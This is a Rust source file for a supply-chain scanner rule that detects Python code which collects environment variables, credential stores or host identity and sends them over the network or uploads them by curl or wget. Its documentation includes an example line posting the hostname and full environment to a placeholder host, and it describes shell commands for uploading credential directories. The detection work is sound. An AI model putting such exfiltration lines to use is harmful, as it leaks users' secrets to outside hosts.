//! PY008 exfiltration-flow.

use super::super::patterns::{
    CREDENTIAL_DIR, DEV_CREDENTIALS, EXFIL_SERVICES, KUBERNETES_TOKEN, SHELL_UPLOAD,
    STEALER_TARGETS,
};
use crate::context::{CodeFile, Cx, by_context};
use assay_core::{Capability, Finding, Severity};
use assay_lang::{EventKind, Taint};

declare_rule! {
    /// ## What it does
    /// Flags one file whose code collects something sensitive — the whole environment,
    /// credential stores, a Kubernetes service-account token, system identity (host/user
    /// name), files found by walking the disk — and also sends data over the network, or
    /// passes collected data straight into a network call.
    ///
    /// ## Why it matters
    /// Collection plus a sink is the complete theft: each half alone is common, both in
    /// one place is what stealers and the 2025–2026 CI-token worms look like.
    ///
    /// ## Example
    /// ```python
    /// import os, socket, requests
    /// requests.post("https://example.invalid/c", json={"host": socket.gethostname(), "env": dict(os.environ)})
    /// ```
    ///
    /// ## False positives
    /// Telemetry and crash reporters send host names; at runtime such flows are medium
    /// severity, and only automatic execution (install, startup, import) makes them
    /// critical. A DNS lookup is a sink only in automatic code and only when its name can
    /// carry data: resolving constant host names (a connectivity check) sends nothing,
    /// while a name built from the host or user name is a beacon (a direct flow).
    ///
    /// ## References
    /// - CWE-200: Exposure of Sensitive Information
    /// - MITRE ATT&CK T1041 (Exfiltration Over C2 Channel), T1567 (Exfiltration Over Web Service)
    pub static META = ExfiltrationFlow;
}

/// Check sources and sinks per file.
pub fn check_file(cx: &Cx, f: &CodeFile, out: &mut Vec<Finding>) {
    if f.is_test_or_doc() {
        return;
    }
    if shell_upload(cx, f, out) {
        return;
    }
    let a = &f.analysis;
    // DNS lookups count as a sink only where the code runs by itself (DNS exfiltration
    // at install); every network client resolves names at runtime.
    // Constructing a client or a request object sends nothing; the call that sends does.
    let constructor = |api: &str| {
        let last = api.rsplit('.').next().unwrap_or(api);
        matches!(
            last,
            "Session"
                | "ClientSession"
                | "Client"
                | "AsyncClient"
                | "PoolManager"
                | "HTTPConnection"
                | "HTTPSConnection"
                | "Request"
                | "build_opener"
                | "SSHClient"
                | "HTTPClient"
        )
    };
    // A name resolved is data sent only when the name can carry data: a lookup of
    // constant host names (a connectivity check over `("one.one.one.one", "dns.google")`)
    // sends nothing collected, one whose name is built from identity, environment, process
    // output, a file or a decoder, or from something the analysis could not follow, can.
    let carries = |t: Taint| {
        !t.has(Taint::LITERAL)
            || t.has(
                Taint::IDENTITY
                    | Taint::ENV
                    | Taint::PROCESS_OUTPUT
                    | Taint::FILE_READ
                    | Taint::DECODED
                    | Taint::NETWORK,
            )
    };
    let sinks: Vec<_> = a
        .events
        .iter()
        .filter(|e| {
            (e.kind == EventKind::Network && !constructor(&e.api))
                || (e.kind == EventKind::DnsLookup && e.context.is_automatic() && carries(e.taint))
        })
        .collect();
    if sinks.is_empty() {
        return;
    }
    // Judge automatic-context code on its own: collection in a runtime helper and a
    // session created at import are unrelated in most SDKs.
    let auto_sinks = sinks.iter().any(|e| e.context.is_automatic());
    let in_scope = |c: assay_core::ExecutionContext| !auto_sinks || c.is_automatic();
    let mut sources: Vec<&str> = Vec::new();
    if a.events
        .iter()
        .any(|e| e.kind == EventKind::EnvHarvest && in_scope(e.context))
    {
        sources.push("environment");
    }
    if a.events
        .iter()
        .any(|e| e.kind == EventKind::SystemInfo && in_scope(e.context))
    {
        sources.push("system identity");
    }
    if a.strings.iter().any(|s| {
        s.value.len() < 4096
            && in_scope(s.context)
            && (STEALER_TARGETS.0.is_match(&s.value) || DEV_CREDENTIALS.0.is_match(&s.value))
    }) {
        sources.push("credential stores");
    }
    if a.strings
        .iter()
        .any(|s| s.value.len() < 4096 && in_scope(s.context) && KUBERNETES_TOKEN.is_match(&s.value))
    {
        sources.push("Kubernetes service-account token");
    }
    let webhook = a
        .strings
        .iter()
        .any(|s| EXFIL_SERVICES.0.is_match(&s.value));
    // A sink fed directly by env/process output is a flow even without other sources.
    // So is a name lookup built from the host's or user's identity (a DNS beacon).
    let direct = sinks.iter().find(|e| {
        e.taint.has(Taint::ENV)
            || e.taint.has(Taint::PROCESS_OUTPUT)
            || (e.kind == EventKind::DnsLookup && e.taint.has(Taint::IDENTITY))
    });
    if sources.is_empty() && direct.is_none() {
        return;
    }
    let sink = direct
        .copied()
        .or_else(|| sinks.iter().find(|e| e.context.is_automatic()).copied())
        .unwrap_or(sinks[0]);
    let strong = direct.is_some() || webhook || sources.len() >= 2;
    // At runtime, collection and a sink in one module is what SDKs and VCS clients look
    // like; only a direct flow or a hard-coded drop service counts there.
    let runtime = if direct.is_some() || webhook {
        Severity::High
    } else {
        Severity::Low
    };
    let sev = by_context(
        sink.context,
        Severity::Critical,
        if strong {
            Severity::Critical
        } else {
            Severity::High
        },
        runtime,
    );
    let what = if sources.is_empty() {
        "process/env data".to_owned()
    } else {
        sources.join(", ")
    };
    let mut x = cx.event_finding(
        &META,
        f,
        sink,
        sev,
        format!("collects {what}; sends via {}: {}", sink.api, sink.snippet),
    );
    x.capabilities = vec![Capability::Network, Capability::CredentialAccess];
    out.push(x);
}

/// A process call that uploads a file (`curl -F file=@…`, `curl -T`, `wget --post-file`)
/// from a function that also names credential stores — a whole `~/.ssh` or `~/.aws`
/// directory, shell history, browser or wallet files: the stolen files leave by the
/// shell. Critical in any execution context: a library may upload files and may read
/// `~/.ssh/config`, but shipping credential stores to a host is theft wherever it runs.
/// Returns whether it raised a finding.
fn shell_upload(cx: &Cx, f: &CodeFile, out: &mut Vec<Finding>) -> bool {
    let a = &f.analysis;
    for e in a
        .events
        .iter()
        .filter(|e| e.kind == EventKind::ProcessSpawn)
    {
        // Strings of the same function (or the same module level) and decode layer.
        let in_scope = |s: &&assay_lang::StrLit| {
            s.function == e.function && s.chain == e.chain && s.value.len() < 4096
        };
        let upload = e.arg.as_deref().is_some_and(|c| SHELL_UPLOAD.is_match(c))
            || a.strings
                .iter()
                .filter(in_scope)
                .any(|s| SHELL_UPLOAD.is_match(&s.value));
        if !upload {
            continue;
        }
        let mut stores: Vec<&str> = a
            .strings
            .iter()
            .filter(in_scope)
            .filter(|s| {
                CREDENTIAL_DIR.is_match(&s.value)
                    || DEV_CREDENTIALS.0.is_match(&s.value)
                    || STEALER_TARGETS.0.is_match(&s.value)
            })
            .map(|s| &*s.value)
            .collect();
        if stores.is_empty() {
            continue;
        }
        stores.sort_unstable();
        stores.dedup();
        stores.truncate(4);
        let mut x = cx.event_finding(
            &META,
            f,
            e,
            Severity::Critical,
            format!(
                "uploads files by shell from code that collects credential stores ({}): {}",
                stores.join(", "),
                e.snippet
            ),
        );
        x.confidence = assay_core::Confidence::High;
        x.capabilities = vec![
            Capability::Network,
            Capability::Process,
            Capability::CredentialAccess,
        ];
        out.push(x);
        return true;
    }
    false
}
